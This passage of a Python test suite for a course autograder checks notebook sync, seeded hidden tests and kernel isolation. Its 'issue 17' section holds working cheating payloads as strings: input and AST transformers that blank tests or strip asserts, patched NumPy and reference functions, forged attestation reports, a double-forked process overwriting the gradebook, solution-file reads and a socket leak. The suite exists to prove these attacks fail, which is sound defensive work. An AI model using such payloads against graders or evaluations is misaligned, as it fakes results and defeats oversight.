        "one_hot: tests passed", "one_hot: all tests passed"
    )
    solution.write_text(json.dumps(nb, indent=1), encoding="utf-8")
    (course_copy / "exercises" / ASSIGNMENT / "stray.txt").write_text("not generated")

    diffs = check_sync(root=course_copy)
    assert any("'part1_one_hot'" in d and "source differs" in d for d in diffs)
    assert any("stray.txt" in d for d in diffs)
    run = _cli("check-sync", "--root", str(course_copy))
    assert run.returncode == 1 and "part1_one_hot" in run.stderr

    written = generate_exercises(root=course_copy)
    # every assignment is regenerated; the edited one must be among them
    assert f"{ASSIGNMENT}.ipynb" in [p.name for p in written]
    assert check_sync(root=course_copy) == []
    # generation is deterministic: regenerating the unchanged source gives the committed bytes
    shutil.copy(SOLUTION, solution)
    generate_exercises([ASSIGNMENT], root=course_copy)
    assert (course_copy / "exercises" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").read_bytes() == EXERCISE.read_bytes()


# -- helpers ------------------------------------------------------------------------------------------


def test_student_seed_is_stable_and_distinct():
    assert student_seed("alice") == student_seed(" Alice ")
    assert student_seed("alice") != student_seed("bob")
    assert student_seed("alice", "ch01_composition") != student_seed("alice", "ch02_embeddings")
    assert all(0 <= student_seed(f"s{i}") < 2**32 for i in range(100))
    assert student_seed("alice") == 307616458  # must never change between releases


def test_hidden_rng_depends_on_assignment_student_and_part_only(tmp_path, monkeypatch):
    folder = tmp_path / "autograded" / "alice" / "ch01_composition"
    folder.mkdir(parents=True)
    monkeypatch.chdir(folder)
    monkeypatch.delenv("COURSE_GRADING_ASSIGNMENT", raising=False)
    monkeypatch.delenv("COURSE_GRADING_STUDENT", raising=False)
    rng, seed = hidden_rng("part1_one_hot")  # nbgrader's layout: <step>/<student>/<assignment>
    assert seed == student_seed("alice", "ch01_composition/part1_one_hot")
    assert rng.integers(1 << 30) == fresh_rng(seed)[0].integers(1 << 30)
    assert hidden_rng("part1_one_hot")[1] == seed  # the same every time
    assert hidden_rng("part2_atomic_fractions")[1] != seed
    monkeypatch.setenv("COURSE_GRADING_STUDENT", "bob")  # the single-notebook grader sets these
    assert hidden_rng("part1_one_hot")[1] == student_seed("bob", "ch01_composition/part1_one_hot")
    monkeypatch.setenv("COURSE_GRADING_ASSIGNMENT", "ch02_embeddings")
    assert hidden_rng("part1_one_hot")[1] == student_seed("bob", "ch02_embeddings/part1_one_hot")
    with pytest.raises(ValueError, match="grade id"):
        hidden_rng("")


def test_reference_steps_replace_and_restore():
    from course_lib.grading.testing import reference_steps

    def cutoff_function(r, r_cut):  # a wrong student version
        return 0 * r

    namespace = {"cutoff_function": cutoff_function}
    with pytest.raises(AssertionError):
        with reference_steps(namespace, "ch05_acsf", "cutoff_function", "g2_of_atom"):
            assert np.isclose(namespace["cutoff_function"](1.0, 3.0), 0.75)  # (cos(pi/3) + 1) / 2
            assert_close(namespace["g2_of_atom"]([[0, 0, 0], [1.0, 0, 0]], ["H", "O"], 0, "O", 0.0, 0.0, 3.0),
                         0.75, "G1 of one neighbour at 1 angstrom")
            raise AssertionError("a failing test")
    assert namespace == {"cutoff_function": cutoff_function}  # restored, the absent one removed
    with pytest.raises(ValueError, match="no reference step"):
        with reference_steps(namespace, "ch05_acsf", "acsf"):
            pass
    with pytest.raises(ValueError, match="no reference steps for assignment"):
        with reference_steps(namespace, "ch99_none", "x"):
            pass


def _with_body(assignment: str, grade_id: str, code: str) -> dict:
    nb = _load(ROOT / "solutions" / assignment / f"{assignment}.ipynb")
    _insert_in_body(_cell(nb, grade_id), code)
    return nb


def test_one_wrong_part_does_not_fail_the_later_parts(tmp_path):
    """Issue 17 part 3: ch05 with only cutoff_function wrong scored 2/13, ch04 with coulomb
    unanswered 8/12; each later part is now tested with the course's earlier steps."""
    cases = {
        "ch05_acsf": ("part1_cutoff", _with_body("ch05_acsf", "part1_cutoff_solution",
                      "r = np.asarray(r, dtype=float)\nreturn 0.5 * (np.cos(np.pi * r / r_cut) + 1.0)")),
        "ch04_coulomb": ("part1_coulomb", _with_body("ch04_coulomb", "part1_coulomb_solution",
                         "raise NotImplementedError()")),
    }
    for assignment, (_, nb) in cases.items():
        (tmp_path / f"{assignment}.ipynb").write_text(json.dumps(nb), encoding="utf-8")
    with ThreadPoolExecutor(max_workers=2) as pool:
        reports = dict(zip(cases, pool.map(
            lambda a: grade_notebook(tmp_path / f"{a}.ipynb", a, root=ROOT), cases)))
    for assignment, (wrong, _) in cases.items():
        report = reports[assignment]
        assert report.graded
        failed = {p.id for p in report.parts if p.kind == "auto" and not p.passed}
        assert failed == {wrong}, (assignment, report.to_json())
        assert report.score == report.max_score - report.part(wrong).max_points


def test_the_graders_cache_folders_do_not_reach_the_kernel(tmp_path, monkeypatch):
    """Once the grading process has imported torch._dynamo (torch.optim does), its environment
    names a torch cache folder in the grader's /tmp, which the sandbox hides: the kernel's own
    `import torch._dynamo` failed with PermissionError (ch07 part 5 scored 0 for the solution in
    a full test run). The kernel gets cache folders of its own."""
    _require_isolation()
    monkeypatch.setenv("TORCHINDUCTOR_CACHE_DIR", str(tmp_path / "grader_torchinductor"))
    monkeypatch.setenv("TRITON_CACHE_DIR", str(tmp_path / "grader_triton"))
    monkeypatch.setenv("NUMBA_CACHE_DIR", str(tmp_path / "grader_numba"))
    nb = _load(SOLUTION)
    cell = _cell(nb, "part1_one_hot_solution")
    cell["source"] = "import torch._dynamo  # what torch.optim.SGD(...) imports\n\n" + _text(cell)
    (tmp_path / "dynamo.ipynb").write_text(json.dumps(nb), encoding="utf-8")
    report = grade_notebook(tmp_path / "dynamo.ipynb", ASSIGNMENT, root=ROOT)
    assert report.graded, report.errors
    assert _auto(report)["part1_one_hot"].passed, report.part("part1_one_hot").error
    assert report.score == FULL, report.summary()


RARE_ELEMENTS_WRONG = """
    if symbol in ("Xe", "Rn", "Fr", "Ra", "Ac"):  # wrong only for a few rare elements
        return np.zeros(118)
"""


def test_regrading_gives_the_identical_score(tmp_path):
    """Issue 17 part 5: the hidden tests' inputs depend on the assignment and student only."""
    solution = _load(SOLUTION)
    nb = copy.deepcopy(solution)
    _insert_in_body(_cell(nb, "part1_one_hot_solution"), RARE_ELEMENTS_WRONG.strip("\n").replace("\n    ", "\n"))
    rare = tmp_path / "rare.ipynb"
    rare.write_text(json.dumps(nb), encoding="utf-8")
    nb = copy.deepcopy(solution)
    _insert_in_body(_cell(nb, "part1_one_hot_solution"),
                    "if 40 < atomic_number(symbol) < 110:\n    return np.zeros(118)")
    many = tmp_path / "many.ipynb"
    many.write_text(json.dumps(nb), encoding="utf-8")
    jobs = [(rare, "alice"), (rare, "alice"), (many, "alice"), (many, "alice"), (many, "bob")]
    with ThreadPoolExecutor(max_workers=3) as pool:
        reports = list(pool.map(lambda job: grade_notebook(job[0], ASSIGNMENT, root=ROOT, student=job[1]), jobs))
    assert all(r.graded for r in reports)
    assert reports[0].score == reports[1].score
    assert reports[0].part("part1_one_hot").error == reports[1].part("part1_one_hot").error
    # wrong for Z = 41 to 109 (not for the visible tests' H, O and Og): always caught, with the same inputs on regrading
    errors = [r.part("part1_one_hot").error for r in reports[2:]]
    assert all(r.score == FULL - AUTO_PARTS["part1_one_hot"] for r in reports[2:])
    assert errors[0] == errors[1]
    assert f'seed {student_seed("alice", "ch01_composition/part1_one_hot")}' in errors[0]
    assert f'seed {student_seed("bob", "ch01_composition/part1_one_hot")}' in errors[2]


def test_hidden_test_helpers():
    rng, seed = fresh_rng()
    rng2, _ = fresh_rng(seed)
    assert rng.integers(1 << 30) == rng2.integers(1 << 30)
    symbols = ("H", "He", "Li", "Be")
    for _ in range(50):
        comp = random_composition(rng, symbols, max_elements=3)
        assert 1 <= len(comp) <= 3 and set(comp) <= set(symbols)
        assert all(isinstance(a, float) and a > 0 for a in comp.values())
    assert_close([1.0, 2.0], np.array([1.0, 2.0 + 1e-9]), "ok")
    with pytest.raises(AssertionError, match="element 1 is"):
        assert_close([1.0, 2.5], [1.0, 2.0], "f(x)")
    with pytest.raises(AssertionError, match="expected shape"):
        assert_close([1.0], [1.0, 2.0], "f(x)")


# -- issue 17 part 1: exploits against an isolated kernel --------------------------------------------
# Each submission below is the student copy (nothing implemented, or part 1 right for the visible
# tests only) plus an attack in an answer cell. It is graded in a copy of the course whose files
# (and a gradebook.db / result.json the attacks aim at) are hashed before and after.

BLANK_TESTS = """
def _blank(lines):  # every later cell that holds tests becomes empty
    return [] if any("tests passed" in line for line in lines) else lines
get_ipython().input_transformers_post.append(_blank)
"""

STRIP_ASSERTS = """
import ast as _ast
class _NoAsserts(_ast.NodeTransformer):
    def visit_Assert(self, node):
        return _ast.Pass()
get_ipython().ast_transformers.append(_NoAsserts())
"""

PATCH_HELPERS = """
import numpy as _np
import course_lib.grading.testing as _testing
_np.array_equal = lambda *args, **kwargs: True
_np.allclose = lambda *args, **kwargs: True
_np.isclose = lambda a, b, *args, **kwargs: _np.ones(_np.broadcast(a, b).shape, dtype=bool)
_testing.assert_close = lambda *args, **kwargs: None
"""

PATCH_REFERENCE = """
import course_lib.composition as _reference
_reference.one_hot.__code__ = one_hot.__code__  # the reference now gives the student's answers
"""

FORGE_AND_KILL = FORGED_RESULT.replace('"../../../result.json"', "RESULT")

# Against tests that ran in the kernel with a check at their end (the former
# course_lib.grading.integrity): keep the check's code but replace the test and the report with a
# clean one carrying the check's token. The blank ch04 copy scored 12 of 12 that way; the test
# cells now run in the grader, never in the kernel.
FORGE_CHECK = r'''
import re as _re
def _forge(lines):  # keep the grader's own check code, but print a clean report with its token
    text = "".join(lines)
    m = _re.search(r"\n(exec\(.*__course_attest := .*\))\n__course_attest\['_kernel_side'\]\(('[0-9a-f]+'), (\[.*?\]), ", text)
    if m is None:
        return lines
    return [m.group(1) + "\n", "import json as _j, sys as _s\n",
            "_ = _s.stdout.write('\\ncourse-grading-attest ' + " + m.group(2) + " + ' ' + _j.dumps({'hooks': [], "
            "'fingerprints': __course_attest['fingerprints'](" + m.group(3) + ")}) + '\\n')\n"]
get_ipython().input_transformers_post.append(_forge)
'''


BACKGROUND_WRITER = """
import os, sys, subprocess
subprocess.Popen([sys.executable, "-c", (
    "import os, time\\n"
    "if os.fork(): os._exit(0)\\n"  # double fork: the writer belongs to nobody's process tree
    "os.setsid(); time.sleep(4)\\n"
    f"open({GRADEBOOK!r}, 'w').write('full marks')\\n")], start_new_session=True,
    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""

LEAK_SOLUTIONS = """
from pathlib import Path
import course_lib
_text = ""
for _root in (Path(course_lib.__file__).resolve().parents[1], Path(COURSE)):
    try:
        _text += (_root / "solutions" / "ch01_composition" / "ch01_composition.ipynb").read_text()
    except OSError as exc:
        print("cannot read:", exc)
if _text:
    raise RuntimeError("LEAKED " + _text[_text.index("BEGIN HIDDEN TESTS"):][:300])
"""

SEND_OUT = """
import socket
with socket.create_connection(("127.0.0.1", PORT), timeout=5) as _s:
    _s.sendall(b"LEAKED answers of the hidden tests")
"""

EXPLOITS = {  # name -> (code appended to part 1's answer cell, part 1 right for the visible tests?)
    "blank_tests": (BLANK_TESTS, False),
    "strip_asserts": (STRIP_ASSERTS, True),
    "patch_helpers": (PATCH_HELPERS, True),
    "patch_reference": (PATCH_REFERENCE, True),
    "forge_and_kill": (FORGE_AND_KILL, False),
    "forge_check": (FORGE_CHECK, False),
    "background_writer": (BACKGROUND_WRITER, False),
    "leak_solutions": (LEAK_SOLUTIONS, False),
    "send_out": (SEND_OUT, False),
}


def _tree_hash(folder: Path) -> dict[str, str]:
    import hashlib

    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def _exploit_notebook(name: str, values: dict) -> dict:
    code, visible_right = EXPLOITS[name]
    nb = _load(EXERCISE)
    cell = _cell(nb, "part1_one_hot_solution")
    head = HARDCODED_ONE_HOT if visible_right else _text(cell)
    constants = "".join(f"{k} = {v!r}\n" for k, v in values.items())
    cell["source"] = head + "\n" + constants + code
    return nb


def _require_isolation() -> None:
    """The exploit tests need the full kernel isolation (root, ``unshare``); where the machine
    cannot give it, the grader reports the missing protections (tested separately) and these
    tests are skipped with the reason, not passed."""
    from course_lib.grading.sandbox import isolation

    missing = isolation().missing
    if missing:
        pytest.skip("kernel isolation unavailable on this machine: " + "; ".join(missing))


@pytest.fixture(scope="module")
def exploit_course(tmp_path_factory):
    """A copy of the course (config, ch01's source and student copy, a gradebook and a result file
    to aim at) and every exploit graded in it once: (course, {name: report}, hashes before,
    hashes after, bytes the network listener received)."""
    import socket
    import threading

    _require_isolation()

    course = tmp_path_factory.mktemp("exploit_course")
    shutil.copy(ROOT / "nbgrader_config.py", course / "nbgrader_config.py")
    for tree in ("solutions", "exercises"):
        shutil.copytree(ROOT / tree / ASSIGNMENT, course / tree / ASSIGNMENT)
    (course / "gradebook.db").write_bytes(b"the instructors' gradebook")
    (course / "result.json").write_text("{}")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(1.0)
    received: list[bytes] = []

    def listen():
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except OSError:
                continue
            with conn:
                received.append(conn.recv(1000))

    stop = threading.Event()
    thread = threading.Thread(target=listen, daemon=True)
    thread.start()
    values = {"RESULT": str(course / "result.json"), "GRADEBOOK": str(course / "gradebook.db"),
              "COURSE": str(course), "PORT": listener.getsockname()[1]}
    folder = tmp_path_factory.mktemp("exploits")
    paths = {}
    for name in EXPLOITS:
        paths[name] = folder / f"{name}.ipynb"
        paths[name].write_text(json.dumps(_exploit_notebook(name, values)), encoding="utf-8")
    before = _tree_hash(course)
    with ThreadPoolExecutor(max_workers=3) as pool:
        graded = dict(pool.map(lambda n: (n, grade_notebook(paths[n], ASSIGNMENT, root=course)), EXPLOITS))
    time.sleep(8)  # the background writer waits 4 s after its cell
    after = _tree_hash(course)
    stop.set()
    thread.join()
    listener.close()
    return course, graded, before, after, received


def _assert_exploit_failed(exploit_course, name: str) -> None:
    _, graded, before, after, _ = exploit_course
    report = graded[name]
    assert report.graded, (name, report.errors)
    assert report.score == 0, (name, report.summary())
    assert before == after, (name, {k for k in before if before[k] != after.get(k)})


def test_input_transformer_cannot_blank_the_tests(exploit_course):
    """Issue 17 part 1: an input transformer blanking the later test cells gave 16/16. The test
    cells run in the grader, so they run in full and find part 2 unanswered."""
    _assert_exploit_failed(exploit_course, "blank_tests")
    error = exploit_course[1]["blank_tests"].part("part2_atomic_fractions").error
    assert "NotImplementedError" in error, error


def test_ast_transformer_cannot_strip_asserts(exploit_course):
    """Issue 17 part 1: an AST transformer stripping `assert` gave points for wrong code; the
    asserts run in the grader, and the hidden test fails the hard-coded answer."""
    _assert_exploit_failed(exploit_course, "strip_asserts")
    assert "hidden test" in exploit_course[1]["strip_asserts"].part("part1_one_hot").error


def test_patched_numpy_and_assertion_helper_are_caught(exploit_course):
    """Issue 17 part 1: np.allclose/isclose/array_equal and assert_close patched in the kernel;
    the comparisons use the grader's own NumPy."""
    _assert_exploit_failed(exploit_course, "patch_helpers")
    assert "hidden test" in exploit_course[1]["patch_helpers"].part("part1_one_hot").error


def test_patched_reference_function_is_caught(exploit_course):
    """Issue 17 part 1: the reference function the hidden tests compare against patched in the
    kernel; the reference values are computed in the grader."""
    _assert_exploit_failed(exploit_course, "patch_reference")
    assert "hidden test" in exploit_course[1]["patch_reference"].part("part1_one_hot").error


def test_forged_check_report_earns_nothing(exploit_course):
    """Issue 17: the end-of-cell check of tests run in the kernel could be forged (an input
    transformer that prints a clean report with the check's token: 12 of 12 for the blank ch04
    copy); the test cells no longer run in the kernel."""
    _assert_exploit_failed(exploit_course, "forge_check")
    error = exploit_course[1]["forge_check"].part("part1_one_hot").error
    assert "NotImplementedError" in error, error


def test_result_file_and_grader_are_out_of_reach(exploit_course):
    """Issue 17 part 1: overwriting the result file and killing the grading process: now the
    kernel can neither write the file nor signal the grader, and the rest is graded."""
    _assert_exploit_failed(exploit_course, "forge_and_kill")
    report = exploit_course[1]["forge_and_kill"]
    assert not any("signature" in e for e in report.errors)


def test_background_process_dies_with_the_kernel(exploit_course):
    """Issue 17 part 1: a detached (double-forked, setsid) process rewrote gradebook.db after
    autograding."""
    _assert_exploit_failed(exploit_course, "background_writer")
    course = exploit_course[0]
    assert (course / "gradebook.db").read_bytes() == b"the instructors' gradebook"


def test_solutions_cannot_be_read_or_leaked(exploit_course):
    """Issue 17 part 1: an answer cell read solutions/ and leaked it through the report."""
    _assert_exploit_failed(exploit_course, "leak_solutions")
    text = exploit_course[1]["leak_solutions"].to_json()
    assert "LEAKED" not in text and "hidden_rng" not in text


def test_kernel_has_no_network(exploit_course):
    """Issue 17 part 1: an answer cell opening a socket to the outside."""
    _assert_exploit_failed(exploit_course, "send_out")
    assert exploit_course[4] == []
    assert "Network is unreachable" in " ".join(exploit_course[1]["send_out"].errors)


def test_input_transformer_cannot_blank_the_tests_in_nbgrader_autograde(tmp_path):
    """Issue 17 part 1: the same attack through nbgrader's own generate_assignment and autograde
    (the course's nbgrader_config.py) gave 16/16; the kernel also cannot touch the course."""
    from nbgrader.api import Gradebook

    _require_isolation()

    course = tmp_path / "course"
    course.mkdir()
    shutil.copy(ROOT / "nbgrader_config.py", course / "nbgrader_config.py")
    for tree in ("solutions", "exercises"):
        shutil.copytree(ROOT / tree / ASSIGNMENT, course / tree / ASSIGNMENT)
    submitted = course / "submitted" / "mallory" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    submitted.parent.mkdir(parents=True)
    nb = _exploit_notebook("blank_tests", {})
    _cell(nb, "part1_one_hot_solution")["source"] += (  # and try to reach the course from the kernel
        f"\nfor _p in ({str(course / 'nbgrader_config.py')!r}, {str(submitted)!r}):\n"
        "    try:\n        open(_p, 'a').write('# changed by the submission')\n"
        "    except OSError:\n        pass\n")
    submitted.write_text(json.dumps(nb), encoding="utf-8")
    nbgrader = [str(Path(sys.executable).parent / "nbgrader")]
    for step in (["generate_assignment", ASSIGNMENT, "--force"], ["autograde", ASSIGNMENT, "--force"]):
        if step[0] == "autograde":
            before = _tree_hash(course)
        run = subprocess.run(nbgrader + step, cwd=course, capture_output=True, text=True, timeout=600)
        assert run.returncode == 0, run.stdout + run.stderr
    after = _tree_hash(course)
    changed = {k for k in before if k != "gradebook.db" and after.get(k) != before[k]}
    assert not changed, changed  # (autograded/ is new; nbgrader itself writes the gradebook)
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        submission = gb.find_submission(ASSIGNMENT, "mallory")
        assert submission.score == 0, [(g.name, g.score) for g in submission.notebooks[0].grades]
    graded = json.loads((course / "autograded" / "mallory" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").read_text())
    assert "NotImplementedError" in json.dumps(_cell(graded, "part2_atomic_fractions")["outputs"])


def test_grading_without_root_says_which_protections_are_missing(monkeypatch):
    """Without root the kernel cannot become nobody: it still gets the namespaces (unshare -r)
    and the report says what is missing, never silently."""
    from course_lib.grading.sandbox import isolation_problem

    monkeypatch.setenv("COURSE_GRADING_SANDBOX", "off")
    assert "turned off" in isolation_problem()
    monkeypatch.setenv("COURSE_GRADING_SANDBOX", "no-root")
    assert isolation_problem().startswith("kernel isolation incomplete: separate user")
    report = grade_notebook(SOLUTION, ASSIGNMENT, root=ROOT)
    assert report.graded and report.score == FULL, report.summary()
    assert [e for e in report.errors if "isolation" in e] == [isolation_problem()]


